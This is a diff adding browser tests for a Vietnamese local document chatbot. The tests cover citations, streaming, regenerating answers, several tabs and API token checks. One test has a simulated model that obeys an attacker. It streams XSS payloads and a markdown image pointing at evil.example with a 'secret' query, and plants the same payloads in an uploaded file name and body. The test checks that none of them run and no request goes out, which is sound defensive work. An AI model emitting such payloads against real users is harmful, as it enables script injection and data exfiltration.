@@ -1,0 +1,327 @@
+"""A person's journeys through the real app, in a real browser."""
+
+from __future__ import annotations
+
+import json
+import re
+import subprocess
+import sys
+import time
+
+import httpx
+import pytest
+from playwright.sync_api import Page, expect
+
+from chatbot.settings import PROJECT
+from tests.browser.conftest import RunningApp, running, start_app
+from tests.browser.slow_model import slow_model
+
+pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]
+
+QUESTION = "Sinh viên bị cảnh báo học vụ khi nào?"
+ANSWER_SECONDS = 60_000
+
+
+def ask(page: Page, question: str) -> None:
+    box = page.get_by_test_id("stChatInputTextArea")
+    expect(box).to_be_enabled(timeout=ANSWER_SECONDS)
+    box.fill(question)
+    box.press("Enter")
+
+
+def answers(page: Page):
+    """The finished answers on the page (only those have actions)."""
+    return page.get_by_test_id("stChatMessage").filter(has=page.locator("[class*=st-key-again-]"))
+
+
+def settings_file(data, **values) -> None:
+    data.mkdir(parents=True, exist_ok=True)
+    values = {"first_run_done": True, "language": "vi", **values}
+    (data / "settings.json").write_text(json.dumps(values), encoding="utf-8")
+
+
+def test_the_first_minute_offline_without_a_model(page: Page):
+    """Open, ask about the samples, see the passage, reload: everything is still there."""
+    page.get_by_role("button", name="Bỏ qua").click()
+    expect(page.get_by_role("button", name=QUESTION)).to_be_visible()
+    ask(page, QUESTION)
+    answer = answers(page).last
+    expect(answer).to_contain_text("0,80", timeout=ANSWER_SECONDS)
+    expect(answer).to_contain_text("Quy chế đào tạo.pdf")
+    expect(answer).to_contain_text("Điều 16")
+
+    answer.get_by_role("button", name="Quy chế đào tạo.pdf").first.click()
+    dialog = page.get_by_role("dialog")
+    expect(dialog).to_contain_text("cảnh báo học vụ nếu rơi vào một trong các trường hợp sau")
+    page.keyboard.press("Escape")
+
+    page.reload()
+    expect(answers(page).last).to_contain_text("0,80")
+    expect(
+        page.get_by_test_id("stSidebar").get_by_role("button", name=QUESTION[:25])
+    ).to_be_visible()
+
+
+def test_a_pdf_dropped_into_the_chat_is_asked_and_cited(page: Page, shared_data):
+    pdf = shared_data / "phapluat-vi" / "thong-tu-so-06-2024-tt-bldtbxh-42452.pdf"
+    page.get_by_test_id("stChatInput").locator("input[type=file]").set_input_files(str(pdf))
+    expect(page.get_by_test_id("stChatInput")).to_contain_text(pdf.stem[:12])
+    ask(page, "Thông tư này có hiệu lực thi hành từ ngày nào?")
+    answer = answers(page).last
+    expect(answer).to_contain_text(pdf.name, timeout=ANSWER_SECONDS)
+    expect(answer).to_contain_text("hiệu lực")
+
+
+def test_an_unaccented_question_finds_the_same_article(page: Page):
+    ask(page, "sinh vien bi canh bao hoc vu khi nao")
+    expect(answers(page).last).to_contain_text("Điều 16", timeout=ANSWER_SECONDS)
+
+
+def test_what_is_not_in_the_documents_is_said(page: Page):
+    ask(page, "Giá vé máy bay từ Hà Nội đi Đà Nẵng là bao nhiêu?")
+    expect(answers(page).last).to_contain_text(
+        "Không tìm thấy trong tài liệu của bạn", timeout=ANSWER_SECONDS
+    )
+
+
+def test_regenerate_and_edit_keep_every_version(page: Page):
+    ask(page, QUESTION)
+    expect(answers(page)).to_have_count(1, timeout=ANSWER_SECONDS)
+    page.locator("[class*=st-key-again-] button").last.click()
+    expect(page.get_by_text("2/2")).to_be_visible(timeout=ANSWER_SECONDS)
+    page.get_by_role("button", name="‹").click()
+    expect(page.get_by_text("1/2")).to_be_visible()
+
+    page.locator("[class*=st-key-edit-] button").first.click()
+    page.get_by_role("textbox", name="Câu hỏi của bạn").fill("Học phí nộp khi nào?")
+    page.get_by_role("button", name="Hỏi lại").click()
+    expect(answers(page).last).to_contain_text("Học phí", timeout=ANSWER_SECONDS, ignore_case=True)
+    page.get_by_role("button", name="‹").first.click()
+    expect(page.get_by_text(QUESTION).last).to_be_visible()
+
+
+def test_delete_can_be_undone_and_search_finds_unaccented(page: Page):
+    ask(page, QUESTION)
+    expect(answers(page)).to_have_count(1, timeout=ANSWER_SECONDS)
+    sidebar = page.get_by_test_id("stSidebar")
+    search = sidebar.get_by_role("textbox")
+    search.fill("canh bao hoc vu")
+    search.press("Enter")
+    entry = sidebar.locator("[class*=st-key-open-] button")
+    expect(entry).to_have_count(1)
+    search.fill("")
+    search.press("Enter")
+    sidebar.locator("[class*=st-key-menu-] button").first.click()
+    page.get_by_text("Xóa", exact=True).click()
+    expect(entry).to_have_count(0)
+    sidebar.get_by_role("button", name="Hoàn tác").click()
+    expect(entry).to_have_count(1)
+
+
+class TestWithASlowModel:
+    """What stop, leaving, reloading and a second tab do while an answer is being written."""
+
+    @pytest.fixture
+    def model(self):
+        with slow_model() as model:
+            yield model
+
+    @pytest.fixture
+    def data_folder(self, data_folder, model):
+        settings_file(
+            data_folder, remote_url=model.url, remote_model="slow", default_model="remote"
+        )
+        return data_folder
+
+    def test_stop_keeps_the_partial_answer_and_ends_the_stream(self, page: Page, model):
+        ask(page, QUESTION)
+        expect(page.get_by_test_id("stChatMessage").last).to_contain_text(
+            "từ-3", timeout=ANSWER_SECONDS
+        )
+        page.get_by_role("button", name="Dừng").click()
+        expect(answers(page).last).to_contain_text("Đã dừng", timeout=10_000)
+        expect(answers(page).last).to_contain_text("từ-3")
+        expect(answers(page).last).not_to_contain_text("từ-59")
+        deadline = time.monotonic() + 5
+        while model.open_streams and time.monotonic() < deadline:
+            time.sleep(0.05)
+        assert model.open_streams == 0
+
+    def test_the_answer_goes_on_while_the_person_looks_at_another_page(
+        self, page: Page, app, model
+    ):
+        ask(page, QUESTION)
+        expect(page.get_by_test_id("stChatMessage").last).to_contain_text(
+            "từ-2", timeout=ANSWER_SECONDS
+        )
+        page.get_by_role("link", name="Tài liệu").click()
+        expect(page.get_by_role("heading", name="Tài liệu")).to_be_visible()
+        model.hurry.set()
+        page.get_by_role("link", name="Trò chuyện").click()
+        expect(answers(page).last).to_contain_text("từ-59", timeout=ANSWER_SECONDS)
+        assert len(model.questions) == 1
+
+    def test_a_reload_in_the_middle_comes_back_to_the_growing_answer(self, page: Page, model):
+        ask(page, QUESTION)
+        expect(page.get_by_test_id("stChatMessage").last).to_contain_text(
+            "từ-2", timeout=ANSWER_SECONDS
+        )
+        page.reload()
+        expect(page.get_by_test_id("stChatMessage").last).to_contain_text(
+            "từ-4", timeout=ANSWER_SECONDS
+        )
+        model.hurry.set()
+        expect(answers(page).last).to_contain_text("từ-59", timeout=ANSWER_SECONDS)
+
+    def test_two_tabs_are_both_answered_in_order_and_the_place_is_shown(
+        self, page: Page, app, model
+    ):
+        ask(page, QUESTION)
+        expect(page.get_by_test_id("stChatMessage").last).to_contain_text(
+            "từ-1", timeout=ANSWER_SECONDS
+        )
+        second = page.context.new_page()
+        second.goto(app.address)
+        ask(second, "Học phí nộp khi nào?")
+        expect(second.get_by_text("1 câu hỏi trước câu này")).to_be_visible(timeout=ANSWER_SECONDS)
+        model.hurry.set()
+        for tab in (page, second):
+            expect(answers(tab).last).to_contain_text("từ-59", timeout=ANSWER_SECONDS)
+        assert "Học phí" in model.questions[1]
+
+    def test_the_sidebar_monitor_stays_alive_while_an_answer_streams(self, page: Page):
+        ask(page, QUESTION)
+        expect(page.get_by_test_id("stChatMessage").last).to_contain_text(
+            "từ-1", timeout=ANSWER_SECONDS
+        )
+        meter = page.get_by_test_id("stSidebar").get_by_test_id("stProgress").first
+        before = meter.text_content()
+        deadline = time.monotonic() + 8
+        while meter.text_content() == before and time.monotonic() < deadline:
+            page.wait_for_timeout(200)
+        assert meter.text_content() != before
+
+
+def test_poisoned_answers_and_documents_run_nothing_and_call_nobody(chromium, data_folder):
+    """The model obeys the attacker in everything; the page still loads, runs and sends nothing."""
+    evil = (
+        "![x](http://evil.example/a.png?q=secret) <img src=x onerror=alert(1)>"
+        " <script>alert(2)</script> [bấm](javascript:alert(3)) "
+        "<iframe src='http://evil.example'></iframe> :material/home: $x$ ![y][r]\n\n[r]: http://evil.example/r.png\n"
+    )
+    with slow_model(words=1, pace=0.01) as model:
+        model.server.RequestHandlerClass._event = _speaking(evil)
+        settings_file(
+            data_folder, remote_url=model.url, remote_model="evil", default_model="remote"
+        )
+        with running(data_folder) as app:
+            context = chromium.new_context(locale="vi-VN")
+            tab = context.new_page()
+            outside, dialogs = [], []
+            tab.on("request", lambda r: outside.append(r.url) if "evil" in r.url else None)
+            tab.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+            tab.goto(app.address)
+            name = "<img src=http:evil.example onerror=alert(4)>.md"
+            tab.get_by_test_id("stChatInput").locator("input[type=file]").set_input_files(
+                {
+                    "name": name,
+                    "mimeType": "text/markdown",
+                    "buffer": f"# {evil}\n\nmật khẩu {evil}".encode(),
+                }
+            )
+            ask(tab, f"mật khẩu {evil}")
+            expect(answers(tab).last).to_contain_text("evil.example", timeout=ANSWER_SECONDS)
+            tab.locator("[class*=st-key-open-source-] button").first.click()
+            expect(tab.get_by_role("dialog")).to_contain_text("mật khẩu")
+            assert (
+                tab.locator("img[src*=evil], script:text('alert(2)'), iframe[src*=evil]").count()
+                == 0
+            )
+            assert (outside, dialogs) == ([], [])
+            context.close()
+
+
+def _speaking(text):
+    def event(self, chunk) -> None:
+        delta = chunk["choices"][0]["delta"]
+        if "content" in delta:
+            delta["content"] = text
+        self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
+        self.wfile.flush()
+
+    return event
+
+
+def test_a_second_start_is_refused_at_once_with_the_first_ones_address(app: RunningApp, tmp_path):
+    log = tmp_path / "second.log"
+    second = start_app(app.data, log)
+    code = second.wait(30)
+    said = log.read_text()
+    assert code == 1
+    assert app.address in said
+    assert "Hearth đang chạy" in said
+    assert httpx.get(f"{app.address}/_stcore/health", trust_env=False).status_code == 200
+
+
+def test_refusing_a_second_start_takes_less_than_two_seconds_more_than_starting_python(
+    app, tmp_path
+):
+    """Streamlit's own import is not ours to shorten; what Hearth adds before it refuses is."""
+    bare = min(
+        _timed([sys.executable, "-c", "import streamlit.web.cli, streamlit.starlette"])
+        for _ in range(3)
+    )
+    took = min(_timed_start(app.data, tmp_path / f"log-{n}") for n in range(3))
+    assert took - bare < 2.0, (took, bare)
+
+
+def _timed(command) -> float:
+    began = time.monotonic()
+    subprocess.run(command, check=False, cwd=PROJECT, capture_output=True)
+    return time.monotonic() - began
+
+
+def _timed_start(data, log) -> float:
+    began = time.monotonic()
+    start_app(data, log).wait(30)
+    return time.monotonic() - began
+
+
+def test_the_api_answers_only_with_the_token(app: RunningApp):
+    url = f"{app.address}/v1/models"
+    assert httpx.get(url, trust_env=False).status_code == 401
+    forged = httpx.get(url, headers={"Host": "evil.example"}, trust_env=False)
+    assert forged.status_code == 403
+    good = httpx.get(url, headers={"Authorization": f"Bearer {app.token}"}, trust_env=False)
+    assert "extractive" in [m["id"] for m in good.json()["data"]]
+
+
+def test_the_command_line_speaks_to_the_running_owner(app: RunningApp):
+    done = subprocess.run(
+        [sys.executable, "-m", "chatbot", "ask", QUESTION, "--json"],
+        cwd=PROJECT,
+        env={**__import__("os").environ, "HEARTH_DATA": str(app.data)},
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=True,
+    )
+    answer = json.loads(done.stdout)
+    assert re.search(r"Điều 16", json.dumps(answer["sources"], ensure_ascii=False))
+    assert answer["engine"] == "extractive"
+
+
+def test_only_loopback_listens(app: RunningApp):
+    import psutil
+
+    family = [
+        psutil.Process(app.process.pid),
+        *psutil.Process(app.process.pid).children(recursive=True),
+    ]
+    listening = {
+        c.laddr.ip
+        for p in family
+        for c in p.net_connections("inet")
+        if c.status == psutil.CONN_LISTEN
+    }
+    assert listening == {"127.0.0.1"}
